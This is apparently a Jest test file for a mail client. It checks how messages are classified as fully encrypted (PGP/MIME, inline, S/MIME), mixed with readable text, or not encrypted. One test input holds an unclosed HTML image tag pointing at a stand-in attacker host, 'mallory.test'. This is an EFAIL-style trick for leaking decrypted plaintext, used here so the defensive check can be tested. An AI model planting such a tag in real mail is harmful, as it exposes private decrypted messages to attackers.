import { beforeAll, describe, expect, test } from '@jest/globals';
import { readStructure } from '../../../src/protocol/mime';
import { findSealed } from '../../../src/protocol/pgpmime';
import {
  control,
  dataPart,
  encryptedType,
  entity,
  inlineToAlice,
  mailToAlice,
  partsOf,
  pgpMimeToAlice,
  sealedToAlice,
} from '../../support/pgpMail';

let armor: Buffer;
beforeAll(async () => {
  armor = await sealedToAlice(entity('at noon\n'));
});

const found = (mail: Buffer) => findSealed(readStructure(mail).root, mail);
const kindOf = (mail: Buffer) => found(mail).kind;
const mixed = (...parts: string[]) => mailToAlice(['Content-Type: multipart/mixed; boundary=m'], partsOf('m', parts));
const text = (words: string) => `Content-Type: text/plain\n\n${words}`;

describe('a mail is encrypted as a whole', () => {
  test('by PGP/MIME, whose armor comes out', () => {
    const sealed = found(pgpMimeToAlice(armor));
    expect(sealed).toMatchObject({ kind: 'entity' });
    expect('armor' in sealed && sealed.armor.toString().trim()).toBe(armor.toString().trim());
  });

  test('where its armor is in base64, as some servers make it', () => {
    const data = `Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n${armor.toString('base64')}`;
    expect(kindOf(mailToAlice([encryptedType], partsOf('pgp', [control, data])))).toBe('entity');
  });

  test('where an Exchange server has put an empty text before it', () => {
    expect(kindOf(mixed(text('\n'), control, dataPart(armor)))).toBe('entity');
  });

  test('as one text and nothing else', () => {
    expect(kindOf(inlineToAlice(armor))).toBe('text');
    expect(kindOf(inlineToAlice(Buffer.concat([Buffer.from('\n \n'), armor, Buffer.from('\n')])))).toBe('text');
  });

  test('by S/MIME', () => {
    const type = 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m';
    expect(kindOf(mailToAlice([type, 'Content-Transfer-Encoding: base64'], 'MIIB\n'))).toBe('smime');
  });
});

describe('readable words beside what is encrypted make it mixed', () => {
  test.each<[string, () => Buffer]>([
    ['before the armor', () => inlineToAlice(Buffer.concat([Buffer.from('Read this:\n'), armor]))],
    ['after the armor', () => inlineToAlice(Buffer.concat([armor, Buffer.from('See?\n')]))],
    ['between two of them', () => inlineToAlice(Buffer.concat([armor, armor]))],
    ['in another part', () => mixed(text('<img src="http://mallory.test/?'), `${encryptedType}\n\n${pgp()}`)],
    ['in a text before the armor of what Exchange leaves', () => mixed(text('hello'), control, dataPart(armor))],
    ['in a third part of PGP/MIME', () => three()],
    ['in the part of the armor', () => pgpMimeToAlice(Buffer.concat([Buffer.from('<b>\n'), armor]))],
    ['as HTML around it', () => mailToAlice(['Content-Type: text/html'], Buffer.concat([Buffer.from('<p>\n'), armor]))],
    [
      'around a mail that was passed on',
      () => mixed(`Content-Type: message/rfc822\n\n${pgpMimeToAlice(armor).toString()}`),
    ],
    ['around S/MIME', () => mixed('Content-Type: application/x-pkcs7-mime; smime-type=enveloped-data\n\nMIIB')],
  ])('%s', (_, mail) => {
    expect(kindOf(mail())).toBe('mixed');
  });

  const pgp = () => partsOf('pgp', [control, dataPart(armor)]);
  const three = () => mailToAlice([encryptedType], partsOf('pgp', [control, dataPart(armor), text('and this')]));
});

describe('nothing is encrypted', () => {
  test.each<[string, Buffer]>([
    ['in an ordinary mail', mailToAlice(['Content-Type: text/plain'], 'at noon\n')],
    ['where a block is quoted', inlineToAlice(Buffer.from('> -----BEGIN PGP MESSAGE-----\n> hQEM\n'))],
    [
      'where a text is signed',
      inlineToAlice(Buffer.from('-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nnoon\n')),
    ],
    ['where a key is attached', inlineToAlice(Buffer.from('-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQEN\n'))],
    [
      'in S/MIME that is only signed',
      mailToAlice(['Content-Type: application/pkcs7-mime; smime-type=signed-data'], 'MII'),
    ],
  ])('%s', (_, mail) => {
    expect(kindOf(mail)).toBe('none');
  });
});
